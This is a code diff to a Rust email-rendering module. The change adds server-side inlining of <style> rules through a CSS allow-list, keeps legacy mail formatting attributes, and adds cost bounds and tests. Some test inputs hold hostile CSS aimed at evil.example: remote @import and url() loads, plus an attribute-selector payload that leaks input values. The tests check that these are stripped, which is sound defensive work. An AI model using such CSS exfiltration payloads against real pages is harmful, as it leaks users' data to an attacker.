@@ -3,7 +3,7 @@
 //! A sender controls the HTML, and a browser parser's tree building is not linear in every
 //! input: html5ever (under ammonia) walks the stack of open elements for many start tags, so
 //! 100,000 nested `<div>`s (500 KB) took ~27 s per view, and 10,000 nested `<table>`s logged a
-//! warning each. Three rules bound it:
+//! warning each. Five rules bound it:
 //!
 //! 1. **Size**: a body over [`MAX_HTML_BYTES`] is not parsed as HTML (Gmail clips mail at
 //!    102 KB; mail clients' HTML rarely passes a few hundred), and one whose sanitised form
@@ -20,6 +20,34 @@
 //! 4. **Once**: a rendered body is kept in memory (never on disk) by its link, up to
 //!    [`CACHE_BYTES`], so viewing a message again costs no parsing; the worst body a sender
 //!    can build costs one render per link.
+//! 5. **Style rules**: inlining a body's `<style>` rules (below) matches selectors against
+//!    elements, rules × elements. The same tokenizer pass collects the `<style>` text, at
+//!    most [`MAX_STYLE_BYTES`]; at most [`MAX_SELECTORS`] selectors are kept, fewer on a
+//!    large body so that selectors × elements stays under [`MAX_MATCHES`]; kept selectors are
+//!    plain (no `:has()`, `:not()`, `:nth-child()` — no function), so each match is a short
+//!    walk up the ancestors; the inlined HTML may grow to [`MAX_SHOWN_BYTES`], past which
+//!    the body is shown without its `<style>` rules. The inliner parses the body a second
+//!    time (after the depth check, only when a rule survives) and its output is scanned for
+//!    depth again.
+//!
+//! **Formatting.** The styling people use in mail is kept, and only that: every `style`
+//! attribute passes the allow-list of properties and values in `css.rs` (read by Servo's CSS
+//! parser, so escapes and comments cannot hide a `url(` from it), and the legacy attributes
+//! mail clients still write (`bgcolor`, `align`, `valign`, `width`, `cellpadding`, `<font
+//! color face size>` …, see [`LEGACY_ATTRIBUTES`]) are kept when their values are plain. The
+//! page admits the result with `style-src-attr 'unsafe-inline'` and no `<style>` element
+//! (`mod.rs`, `docs/message-center.md`). Nothing a message draws reaches outside its area
+//! twice over: the allow-list refuses what could move content out (`position` but
+//! `static`/`relative`, offsets, `z-index`, transforms, negative lengths), and the area
+//! clips whatever would still overflow (`contain: paint; overflow: auto` in `center.css`).
+//!
+//! **`<style>` blocks** (newsletters style this way) never reach the browser: their rules are
+//! *inlined* into the elements' `style` attributes on the server (`css-inline`, with no way
+//! to fetch anything: built without its `http` and `file` features, remote style sheets
+//! off), after the allow-list has kept only plain selectors and allowed declarations, and
+//! the attributes then pass the allow-list again like any other. At-rules (`@media`,
+//! `@import`, `@font-face`) are dropped: nothing in them is inlined. Selectors are matched on
+//! the server, so attribute selectors cannot tell anyone what the page holds.
 //!
 //! `bench/src/center.rs` measures the worst bodies found (server time per view, and
 //! `/healthz` while they are viewed); `docs/SECURITY.md` records the numbers.
@@ -36,6 +64,8 @@ use html5ever::tokenizer::{
 };
 use tokio::sync::Semaphore;
 
+use super::css;
+
 /// The largest HTML body shown as HTML (larger ones are shown as text).
 pub(super) const MAX_HTML_BYTES: usize = 1 << 20;
 /// The largest sanitised HTML shown (a body that grows past it is shown as text).
@@ -46,6 +76,14 @@ pub(super) const MAX_NESTING: usize = 256;
 const MAX_TEXT_CHARS: usize = 1 << 20;
 /// The most memory rendered bodies are kept in.
 pub(super) const CACHE_BYTES: u64 = 64 << 20;
+/// The most `<style>` text read from a body (newsletters' run to a few tens of KB); the rest
+/// is ignored.
+pub(super) const MAX_STYLE_BYTES: usize = 128 << 10;
+/// The most selectors of a body's `<style>` rules inlined.
+pub(super) const MAX_SELECTORS: usize = 2000;
+/// The most selector matches (selectors × elements) inlining may cost: a body with more
+/// elements keeps fewer of its selectors.
+pub(super) const MAX_MATCHES: usize = 20_000_000;
 
 /// What the read page shows of an HTML body.
 #[derive(Debug, PartialEq, Eq)]
@@ -128,29 +166,134 @@ pub(super) fn render(html: &str, images: HashMap<String, String>) -> SafeBody {
     if scanned.deepest > MAX_NESTING {
         return SafeBody::Text { text: scanned.text, why: TOO_DEEP };
     }
-    let clean = sanitise(html, images);
+    let inlined = inline_styles(html, &scanned);
+    let clean = sanitise(inlined.as_deref().unwrap_or(html), images);
     if clean.len() > MAX_SHOWN_BYTES {
         return SafeBody::Text { text: scanned.text, why: TOO_LARGE };
     }
     SafeBody::Html(clean)
 }
 
-/// The message's HTML made safe to show: ammonia's allow-list (no script, no event handlers,
-/// no styles that could reach outside), links opened without a referrer, and no remote
-/// content — an image only from the message itself: `cid:` sources found in `images`
-/// (Content-ID → URL) point there, every other source is dropped. Call it through
-/// [`render`], which bounds its cost.
+/// `html` with the rules of its `<style>` blocks (what [`css::style_sheet`] keeps of them,
+/// within the bounds of the module doc) written into its elements' `style` attributes; `None`
+/// when it has none to inline, or inlining would pass the bounds.
+fn inline_styles(html: &str, scanned: &Scanned) -> Option<String> {
+    if scanned.styles.trim().is_empty() {
+        return None;
+    }
+    let most = MAX_SELECTORS.min(MAX_MATCHES / scanned.elements.max(1));
+    let (rules, selectors) = css::style_sheet(&scanned.styles, most);
+    if selectors == 0 {
+        return None;
+    }
+    let inliner = css_inline::CSSInliner::options()
+        .inline_style_tags(false)
+        .keep_style_tags(false)
+        .keep_link_tags(false)
+        .keep_at_rules(false)
+        .load_remote_stylesheets(false)
+        .extra_css(Some(rules.into()))
+        .build();
+    let mut out = Capped(Vec::new());
+    inliner.inline_to(html, &mut out).ok()?;
+    let inlined = String::from_utf8(out.0).ok()?;
+    (scan(&inlined).deepest <= MAX_NESTING).then_some(inlined)
+}
+
+/// A buffer that refuses to grow past [`MAX_SHOWN_BYTES`].
+struct Capped(Vec<u8>);
+
+impl std::io::Write for Capped {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        if self.0.len() + buf.len() > MAX_SHOWN_BYTES {
+            return Err(std::io::Error::other("the inlined body is too large"));
+        }
+        self.0.extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// The presentational attributes mail clients write, by element; kept when their values are
+/// plain ([`legacy_value`]). Never `background` (it takes a URL).
+const LEGACY_ATTRIBUTES: [(&str, &[&str]); 20] = [
+    ("table", &["align", "bgcolor", "border", "cellpadding", "cellspacing", "width", "height"]),
+    ("tr", &["bgcolor", "valign", "height"]),
+    ("td", &["bgcolor", "valign", "width", "height", "nowrap"]),
+    ("th", &["bgcolor", "valign", "width", "height", "nowrap"]),
+    ("thead", &["valign"]),
+    ("tbody", &["valign"]),
+    ("tfoot", &["valign"]),
+    ("col", &["valign", "width"]),
+    ("colgroup", &["valign", "width"]),
+    ("caption", &["align"]),
+    ("p", &["align"]),
+    ("div", &["align"]),
+    ("h1", &["align"]),
+    ("h2", &["align"]),
+    ("h3", &["align"]),
+    ("img", &["border"]),
+    ("font", &["color", "face", "size"]),
+    ("ul", &["type"]),
+    ("ol", &["type"]),
+    ("li", &["type", "value"]),
+];
+
+/// Whether a legacy attribute's value is plain: a colour, a number or percentage, a keyword,
+/// font names.
+fn legacy_value(attribute: &str, value: &str) -> bool {
+    let only =
+        |most: usize, ok: &dyn Fn(char) -> bool| value.len() <= most && value.chars().all(ok);
+    match attribute {
+        "color" | "bgcolor" => only(32, &|c| c.is_ascii_alphanumeric() || c == '#'),
+        "face" => only(200, &|c| c.is_alphanumeric() || " ,-_'\"".contains(c)),
+        "width" | "height" | "border" | "cellpadding" | "cellspacing" | "size" | "value" => {
+            only(16, &|c| c.is_ascii_digit() || "%.+-".contains(c))
+        }
+        _ => only(16, &|c| c.is_ascii_alphanumeric()),
+    }
+}
+
+/// The message's HTML made safe to show: ammonia's allow-list (no script, no event handlers),
+/// `style` attributes through the CSS allow-list (`css.rs`), the legacy formatting attributes
+/// with plain values, links opened without a referrer, and no remote content — an image only
+/// from the message itself: `cid:` sources found in `images` (Content-ID → URL) point there,
+/// every other source is dropped. Call it through [`render`], which bounds its cost.
 fn sanitise(html: &str, images: HashMap<String, String>) -> String {
-    ammonia::Builder::default()
+    let mut builder = ammonia::Builder::default();
+    builder.add_tags(["font"]).add_generic_attributes(["style", "dir"]);
+    for (tag, attributes) in LEGACY_ATTRIBUTES {
+        builder.add_tag_attributes(tag, attributes.iter().copied());
+    }
+    for tag in ["h4", "h5", "h6"] {
+        builder.add_tag_attributes(tag, ["align"]);
+    }
+    builder
         .link_rel(Some("noopener noreferrer nofollow"))
         .url_schemes(["https", "http", "mailto", "cid"].into_iter().collect())
-        .attribute_filter(move |element, attribute, value| {
-            if element == "img" && attribute == "src" {
+        .attribute_filter(move |element, attribute, value| match (element, attribute) {
+            ("img", "src") => {
                 let id = value.strip_prefix("cid:")?.trim_start_matches('<').trim_end_matches('>');
                 images.get(id).map(|url| url.clone().into())
-            } else {
-                Some(value.into())
             }
+            (_, "style") => {
+                let kept = css::style_attribute(value);
+                (!kept.is_empty()).then(|| kept.into())
+            }
+            (_, "dir") => ["ltr", "rtl", "auto"]
+                .contains(&value.to_ascii_lowercase().as_str())
+                .then(|| value.into()),
+            (element, attribute)
+                if LEGACY_ATTRIBUTES
+                    .iter()
+                    .any(|(t, a)| *t == element && a.contains(&attribute))
+                    || attribute == "align" =>
+            {
+                legacy_value(attribute, value).then(|| value.into())
+            }
+            _ => Some(value.into()),
         })
         .clean(html)
         .to_string()
@@ -162,6 +305,10 @@ struct Scanned {
     deepest: usize,
     /// The text a reader would see, without markup, scripts or styles (capped).
     text: String,
+    /// How many start tags there are (each an element, or none).
+    elements: usize,
+    /// The text of its `<style>` blocks, up to [`MAX_STYLE_BYTES`].
+    styles: String,
 }
 
 fn scan(html: &str) -> Scanned {
@@ -172,7 +319,12 @@ fn scan(html: &str) -> Scanned {
     let _ = tokenizer.feed(&input);
     tokenizer.end();
     let sink = tokenizer.sink;
-    Scanned { deepest: sink.deepest.get(), text: sink.text.into_inner() }
+    Scanned {
+        deepest: sink.deepest.get(),
+        text: sink.text.into_inner(),
+        elements: sink.elements.get(),
+        styles: sink.styles.into_inner(),
+    }
 }
 
 /// Elements that never hold content (no end tag).
@@ -254,7 +406,11 @@ struct Nesting {
     deepest: Cell<usize>,
     /// Inside raw text (`<script>`, `<style>` …): its characters are not text a reader sees.
     raw: Cell<bool>,
+    /// Inside a `<style>`: its characters are style sheet text.
+    in_style: Cell<bool>,
     text: RefCell<String>,
+    elements: Cell<usize>,
+    styles: RefCell<String>,
 }
 
 impl Nesting {
@@ -299,6 +455,12 @@ impl TokenSink for Nesting {
     fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
         let Token::TagToken(tag) = token else {
             if let Token::CharacterTokens(s) = token {
+                if self.in_style.get() {
+                    let mut styles = self.styles.borrow_mut();
+                    if styles.len() + s.len() <= MAX_STYLE_BYTES {
+                        styles.push_str(&s);
+                    }
+                }
                 self.push_text(&s);
             }
             return TokenSinkResult::Continue;
@@ -306,6 +468,7 @@ impl TokenSink for Nesting {
         let name: &str = &tag.name;
         match tag.kind {
             TagKind::StartTag => {
+                self.elements.set(self.elements.get() + 1);
                 if matches!(name, "br" | "p" | "div" | "tr" | "li") {
                     self.push_text("\n");
                 }
@@ -325,11 +488,17 @@ impl TokenSink for Nesting {
                 self.deepest.set(self.deepest.get().max(depth));
                 if let Some((_, kind)) = RAW_TEXT.iter().find(|(n, _)| *n == &*tag.name) {
                     self.raw.set(true);
+                    if name == "style" {
+                        // One block's text is not glued to the next one's.
+                        self.styles.borrow_mut().push('\n');
+                        self.in_style.set(true);
+                    }
                     return TokenSinkResult::RawData(*kind);
                 }
             }
             TagKind::EndTag => {
                 self.raw.set(false);
+                self.in_style.set(false);
                 let is_open = self.open.borrow().get(&tag.name).is_some_and(|n| *n > 0);
                 if is_open {
                     while let Some(popped) = self.pop() {
@@ -438,5 +607,63 @@ mod tests {
     fn script_and_style_are_not_part_of_the_text() {
         let s = scan("<style>p{color:red}</style><p>Hello</p><script>if (a<b) x()</script>");
         assert_eq!(s.text.trim(), "Hello");
+    }
+
+    #[test]
+    fn formatting_is_kept_through_the_css_allow_list() {
+        let out = html(render(
+            r##"<p style="color:#c00000; position:fixed; background:url(https://evil.example/a)">red</p><table bgcolor="#eeeeee" border="1" cellpadding="6" cellspacing="0" width="100%" background="https://evil.example/bg.png"><tr><td align="center" valign="top" bgcolor="javascript:x" style="padding:4px; margin-left:-999px">c</td></tr></table><font color="navy" face="Georgia, 'Times New Roman'" size="+1">f</font><div dir="rtl" style="z-index:9">d</div>"##,
+            HashMap::new(),
+        ));
+        assert!(out.contains(r#"<p style="color:#c00000">"#), "{out}");
+        assert!(
+            out.contains(r##"<table bgcolor="#eeeeee" border="1" cellpadding="6" cellspacing="0" width="100%">"##),
+            "{out}"
+        );
+        assert!(out.contains(r#"<td align="center" valign="top" style="padding:4px">"#), "{out}");
+        assert!(
+            out.contains(r#"<font color="navy" face="Georgia, 'Times New Roman'" size="+1">"#),
+            "{out}"
+        );
+        assert!(out.contains(r#"<div dir="rtl">"#), "{out}");
+        assert!(!out.contains("evil") && !out.contains("fixed") && !out.contains("-999"), "{out}");
+    }
+
+    #[test]
+    fn style_rules_are_inlined_through_the_allow_list_and_the_block_removed() {
+        let body = r#"<html><head><style>
+            @import url(https://evil.example/a.css);
+            @font-face { font-family: X; src: url(https://evil.example/x.woff) }
+            p.lead { color: #336699; font-size: 20px; background-image: url(https://evil.example/b) }
+            td { border: 1px solid #999; position: absolute }
+            input[value^="a"] { background: url(https://evil.example/leak?a) }
+        </style></head><body><p class="lead" style="font-size:14px">Hello</p>
+        <table><tr><td>cell</td></tr></table></body></html>"#;
+        let out = html(render(body, HashMap::new()));
+        assert!(out.contains("<p style=\"color:#336699;font-size:14px\">Hello</p>"), "{out}");
+        assert!(out.contains("<td style=\"border:1px solid #999\">cell</td>"), "{out}");
+        assert!(
+            !out.contains("<style") && !out.contains("evil") && !out.contains("class"),
+            "{out}"
+        );
+    }
+
+    #[test]
+    fn the_worst_style_rules_stay_within_the_match_budget() {
+        // Many selectors × many elements, each selector a descendant chain that walks up.
+        let mut css = String::new();
+        for i in 0..3000 {
+            css.push_str(&format!("div div div span.c{i}, div > div span{{color:#{:06x}}}\n", i));
+        }
+        let body = format!(
+            "<style>{css}</style>{}",
+            "<div><div><div><span class=c1>x</span></div></div></div>".repeat(12_000)
+        );
+        assert!(body.len() <= MAX_HTML_BYTES, "{}", body.len());
+        let started = std::time::Instant::now();
+        let out = render(&body, HashMap::new());
+        // Not a timing assertion on the product: a guard against unbounded matching.
+        assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
+        assert!(matches!(out, SafeBody::Html(_)));
     }
 }
